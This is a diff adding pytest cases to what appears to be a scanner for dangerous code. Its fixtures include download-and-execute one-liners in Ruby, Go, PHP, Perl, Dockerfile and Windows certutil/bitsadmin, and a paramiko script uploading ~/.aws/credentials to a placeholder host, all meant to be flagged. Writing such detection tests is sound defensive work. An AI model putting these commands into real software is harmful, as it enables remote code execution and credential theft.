@@ -541,3 +541,75 @@ def test_a_reverse_shell_with_encoded_names_blocks(tmp_path: Path, shape: str) -
 def test_a_translated_name_that_is_harmless_does_not_block(tmp_path: Path) -> None:
     script = "import os\nprint(getattr(os, 'gpecwd'.translate(str.maketrans('gpe', 'get')))())\n"
     assert not blocking(tmp_path, {"scripts/k.py": script})
+
+
+# ------------------------------------------------ download and evaluate in languages without a parser
+
+FETCH_AND_EVAL = {
+    "ruby": {"a.rb": "require 'net/http'\neval(Net::HTTP.get(URI('https://dl.example.invalid/p.rb')))\n"},
+    "go, sh -c of the body": {
+        "main.go": (
+            "package main\n"
+            'import ("io"; "net/http"; "os/exec")\n'
+            "func main() {\n"
+            '  r, _ := http.Get("https://dl.example.invalid/p")\n'
+            "  b, _ := io.ReadAll(r.Body)\n"
+            '  exec.Command("sh", "-c", string(b)).Run()\n'
+            "}\n"
+        )
+    },
+    "php": {"a.php": "<?php eval(file_get_contents('https://dl.example.invalid/p.txt'));\n"},
+    "perl": {"a.pl": "use LWP::Simple;\nmy $c = get('https://dl.example.invalid/p.pl');\neval $c;\n"},
+    "dockerfile ADD then RUN": {
+        "Dockerfile": "FROM alpine\nADD https://dl.example.invalid/a.sh /a.sh\nRUN sh /a.sh\n"
+    },
+    "windows certutil": {
+        "setup.bat": "certutil -urlcache -split -f http://dl.example.invalid/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe\n"
+    },
+    "windows bitsadmin": {
+        "setup.cmd": "bitsadmin /transfer j http://dl.example.invalid/a.exe %TEMP%\\a.exe\nstart %TEMP%\\a.exe\n"
+    },
+}
+
+
+@pytest.mark.parametrize("shape", sorted(FETCH_AND_EVAL))
+def test_downloading_and_evaluating_code_blocks_in_any_language(tmp_path: Path, shape: str) -> None:
+    assert blocking(tmp_path, FETCH_AND_EVAL[shape])
+
+
+FETCH_AND_USE = {
+    "perl eval block around a JSON fetch": {
+        "a.pl": (
+            "use LWP::Simple;\nuse JSON::PP;\n"
+            "my $r = eval { decode_json(get('https://api.example.com/v1')) };\nprint $r->{name};\n"
+        )
+    },
+    "php json": {
+        "a.php": "<?php $d = json_decode(file_get_contents('https://api.example.com/v1'));\necho $d->name;\n"
+    },
+    "go runs git with literals": {
+        "main.go": (
+            "package main\n"
+            'import ("net/http"; "os/exec")\n'
+            'func main() { http.Get("https://api.example.com/v1"); exec.Command("git", "-c", "core.pager=cat", "log").Run() }\n'
+        )
+    },
+    "dockerfile ADD of a tarball": {"Dockerfile": "FROM alpine\nADD https://example.com/data.tgz /data/\n"},
+    "uploads of a report": {
+        "a.py": "import boto3\nboto3.client('s3').upload_file('out/report.csv', 'my-bucket', 'report.csv')\n"
+    },
+}
+
+
+@pytest.mark.parametrize("shape", sorted(FETCH_AND_USE))
+def test_fetching_data_and_running_literal_commands_do_not_block(tmp_path: Path, shape: str) -> None:
+    found = blocking(tmp_path, FETCH_AND_USE[shape])
+    assert not found, found
+
+
+def test_a_credential_file_uploaded_by_path_blocks(tmp_path: Path) -> None:
+    script = (
+        "import os, paramiko\nc = paramiko.SSHClient()\nc.connect('h.example.invalid', username='u')\n"
+        "c.open_sftp().put(os.path.expanduser('~/.aws/credentials'), '/tmp/k')\n"
+    )
+    assert blocking(tmp_path, {"a.py": script})
